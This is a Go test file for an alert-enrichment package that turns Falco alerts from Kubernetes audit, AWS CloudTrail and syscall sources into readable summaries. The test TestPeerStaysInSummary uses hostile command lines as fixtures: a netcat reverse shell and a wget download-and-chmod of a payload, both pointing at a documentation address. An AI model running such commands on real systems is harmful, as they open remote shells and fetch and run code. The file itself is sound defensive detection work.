package enrich_test

import (
	"encoding/json"
	"maps"
	"strings"
	"testing"
)

// TestRequestSummaries: what was asked for, in words that need no verb from the alert.
func TestRequestSummaries(t *testing.T) {
	e := enricher(t)
	pod := func(sub string, more map[string]any) map[string]any {
		out := map[string]any{"ka.user.name": "bob", "ka.target.resource": "pods", "ka.target.name": "web", "ka.target.namespace": "shop", "ka.target.subresource": sub}
		maps.Copy(out, more)
		return out
	}
	const who = "Kubernetes user “bob” "
	for _, tc := range []struct {
		rule   string
		fields map[string]any
		want   string
	}{
		{"R", pod("exec", map[string]any{"ka.uri.param[command]": "bash"}), who + "asked to exec into pod “web” (“bash”) in namespace “shop”, result unknown."},
		{"R", pod("attach", map[string]any{"ka.verb": "create", "ka.response.code": "101"}), who + "asked to attach to pod “web” in namespace “shop”, which was granted (HTTP 101)."},
		{"R", pod("portforward", map[string]any{"ka.response.code": "403"}), who + "asked to forward ports of pod “web” in namespace “shop” and was refused."},
		{"R", pod("", map[string]any{"ka.req.pod.containers.image": "alpine:3"}), who + "made a request about “pods” “web” with image “alpine:3” in namespace “shop”, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob", "ka.verb": "get", "ka.uri": "/version"}, who + "asked to “get” “/version”, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob"}, who + "made a request, result unknown."},
		{"Attach to cluster-admin Role", map[string]any{"ka.user.name": "bob", "ka.req.binding.subjects": `[{"kind":"User","name":"mallory"}]`}, who + "asked to bind cluster-admin (as the rule asks) to “mallory”, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob", "ka.req.binding.subjects": `[{"kind":"User","name":"mallory"}]`}, who + "asked to bind a role to “mallory”, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob", "ka.req.binding.role": "view", "ka.req.binding.subjects": `[{"kind":"ServiceAccount","name":"a","namespace":"ns"},{"kind":"Group","name":"g"},{"kind":"x"}]`}, who + "asked to bind “view” to service account “ns/a” and group “g” and 1 other, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob", "ka.req.binding.subjects": `[{"kind":`}, who + "asked to bind a role to “[{\"kind\":”, result unknown."},
		{"R", map[string]any{"ka.user.name": "bob", "ka.verb": "delete", "ka.target.resource": "clusterrolebindings", "ka.target.name": "x", "ka.req.binding.role": "view"}, who + "asked to “delete” “clusterrolebindings” “x”, result unknown."},
	} {
		raw := strings.Replace(alertJSON(t, "k8s_audit", tc.fields), `"rule":"Some rule"`, `"rule":"`+tc.rule+`"`, 1)
		if got := e.Report(decode(t, raw)).GetSummary(); got != tc.want {
			t.Errorf("%v:\n%s\nwant\n%s", tc.fields, got, tc.want)
		}
	}
}

// TestPluginSummaries: who, from where, and what the rule's author wrote, without what stands in the
// fields.
func TestPluginSummaries(t *testing.T) {
	for _, tc := range []struct {
		source, output string
		fields         map[string]any
		want           string
	}{
		{
			"aws_cloudtrail", "02:08:35.364460168: Critical Detected a root console login without MFA. | requesting user=root, requesting IP=2001:db8::5",
			map[string]any{"ct.user": "root", "ct.srcip": "2001:db8::5"},
			"Falco's source “aws_cloudtrail” reported for user “root” from “2001:db8::5”: “Detected a root console login without MFA”.",
		},
		{
			"aws_cloudtrail", "A bucket's encryption has been deleted | x",
			map[string]any{"ct.user": "bob", "s3.bucket": "logs", "ct.error": "AccessDenied"},
			"Falco's source “aws_cloudtrail” reported for user “bob” about “logs” with error “AccessDenied”: “A bucket's encryption has been deleted”.",
		},
		{"new", "something | ", nil, "Falco's source “new” reported: “something | ”."},
	} {
		raw, err := json.Marshal(map[string]any{"hostname": "h", "priority": "Notice", "rule": "R", "source": tc.source, "time": "2026-10-05T13:00:46Z", "output": tc.output, "output_fields": tc.fields})
		if err != nil {
			t.Fatal(err)
		}
		if got := enricher(t).Report(decode(t, string(raw))).GetSummary(); got != tc.want {
			t.Errorf("got\n%s\nwant\n%s", got, tc.want)
		}
	}
}

// TestAnsweredByFields: what a playbook leaves open or supposes goes where a field of the alert
// answers it.
func TestAnsweredByFields(t *testing.T) {
	const module, shm = "Linux Kernel Module Injection Detected", "Execution from /dev/shm"
	for _, tc := range []struct {
		rule, field, value   string
		wantOpen, wantExcuse bool
	}{
		{module, "evt.res", "SUCCESS", false, false},
		{module, "evt.res", "EEXIST", false, true},
		{module, "evt.res", "", true, true},
		{shm, "proc.exepath", "/dev/shm/a", false, false},
		{shm, "proc.exepath", "/usr/bin/ls", true, false},
	} {
		fields := map[string]any{"evt.type": "finit_module", "proc.name": "x", "container.id": "abc"}
		if tc.rule == shm {
			fields["evt.type"] = "execve"
		}
		fields[tc.field] = tc.value
		raw := strings.Replace(alertJSON(t, "syscall", fields), `"rule":"Some rule"`, `"rule":"`+tc.rule+`"`, 1)
		r := enricher(t).Report(decode(t, raw))
		open := strings.Join(r.GetNotShown(), "\n")
		if got := strings.Contains(open, "module was loaded") || strings.Contains(open, "in /dev/shm ran"); got != tc.wantOpen {
			t.Errorf("%v: left open %q", tc, open)
		}
		if got := strings.Contains(strings.Join(r.GetHarmlessIf(), "\n"), "EEXIST"); got != tc.wantExcuse {
			t.Errorf("%v: harmless if %q", tc, r.GetHarmlessIf())
		}
	}
}

// TestPeerStaysInSummary: where a command line is cut, whom it is to talk to is not.
func TestPeerStaysInSummary(t *testing.T) {
	for cmd, want := range map[string]string{
		"sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f":  "“sh -c rm /tmp/f;mkfifo … 203.0.113.9 4444 …”",
		"sh -c cd /tmp && rm -rf x y z && wget -q 'http://203.0.113.9/x' -O x && chmod +x": "“sh -c cd /tmp … http://203.0.113.9/x …”",
		"tar -c -z -f /backup/a.tgz --exclude /proc --exclude /sys 10.5 /":                 "“tar -c -z -f /backup/a.tgz --exclude /proc …”",
	} {
		name, _, _ := strings.Cut(cmd, " ")
		r := enricher(t).Report(withFields(t, map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": name, "proc.cmdline": cmd, "user.name": "u"}))
		if !strings.Contains(r.GetSummary(), want) {
			t.Errorf("%s: %s", cmd, r.GetSummary())
		}
	}
}
